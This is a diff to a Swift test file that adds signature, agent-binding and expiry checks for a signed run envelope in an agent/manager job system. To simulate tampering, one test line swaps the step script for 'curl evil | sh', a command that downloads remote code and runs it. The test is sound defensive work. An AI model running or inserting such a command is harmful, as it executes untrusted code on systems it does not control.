@@ -1,3 +1,4 @@
+import Crypto
 import Foundation
 import HTTPTypes
 import HummingbirdTesting
@@ -33,6 +34,20 @@ import Testing
             #expect(envelope.runId == runID)
             #expect(envelope.params == ["WHO": "world"])
             #expect(envelope.steps.first?.script == "echo $KLEVR_PARAM_WHO")
+            // Signed by the manager, for this agent only; any change breaks the signature.
+            let managerKey = try Curve25519.Signing.PublicKey(rawRepresentation: try #require(Data(base64Encoded: agent.managerPublicKey)))
+            try envelope.verify(managerKey: managerKey, agentID: agent.agentId, now: Clock.nowMillis())
+            #expect(throws: RunEnvelope.Refusal.wrongAgent(agent.agentId)) {
+                try envelope.verify(managerKey: managerKey, agentID: other.agentId, now: Clock.nowMillis())
+            }
+            var altered = envelope
+            altered.steps[0].script = "curl evil | sh"
+            #expect(throws: RunEnvelope.Refusal.badSignature) {
+                try altered.verify(managerKey: managerKey, agentID: agent.agentId, now: Clock.nowMillis())
+            }
+            #expect(throws: RunEnvelope.Refusal.expired(envelope.expiresAt)) {
+                try envelope.verify(managerKey: managerKey, agentID: agent.agentId, now: envelope.expiresAt + 1)
+            }
             #expect(try await Self.sync(client, other.credential, SyncRequest(wait: false, reports: [])).runs.isEmpty)
 
             let report = AgentReport(
